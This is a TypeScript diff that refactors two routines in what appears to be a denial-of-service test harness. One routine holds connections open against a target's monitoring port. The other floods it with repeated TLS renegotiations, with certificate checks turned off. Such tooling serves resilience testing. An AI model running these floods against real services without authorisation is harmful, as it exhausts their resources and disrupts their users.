@@ -19,10 +19,8 @@ export const MONITORING_PORT: Floods = {
     attack: (attacker) =>
       attacker.repeat(1_000, async () => {
         const socket = await attacker.connect({ port: attacker.target.monitorPort });
-        if (socket === undefined) return false;
-        await new Promise((resolve) => socket.resume().once('close', resolve));
-        await attacker.pause(REOPEN_AFTER_MS);
-        return true;
+        if (socket !== undefined) await once(socket.resume(), 'close').then(() => attacker.pause(REOPEN_AFTER_MS));
+        return socket !== undefined;
       }),
   },
   'monitor-passwords': {
@@ -83,16 +81,12 @@ export const TLS: Floods = {
         const raw = await attacker.connect();
         if (raw === undefined) return false;
         const socket = tls.connect({ socket: raw, rejectUnauthorized: false, maxVersion: 'TLSv1.2' });
-        const ended = new Promise<void>((resolve) => {
-          // A refused renegotiation is an error here.
-          socket.on('error', () => resolve()).on('close', () => resolve());
-          raw.once('close', () => resolve());
-        });
+        // A refused renegotiation is an error here.
+        const ended = Promise.race([once(socket, 'close'), once(raw, 'close')]).catch(() => undefined);
         const again = (): void => {
-          if (attacker.isOn)
-            socket.renegotiate({ rejectUnauthorized: false }, (cause) => (cause ? undefined : again()));
+          if (attacker.isOn) socket.renegotiate({ rejectUnauthorized: false }, (cause) => cause ?? again());
         };
-        socket.once('secureConnect', again);
+        socket.on('error', () => undefined).once('secureConnect', again);
         await ended;
         socket.destroy();
         return true;
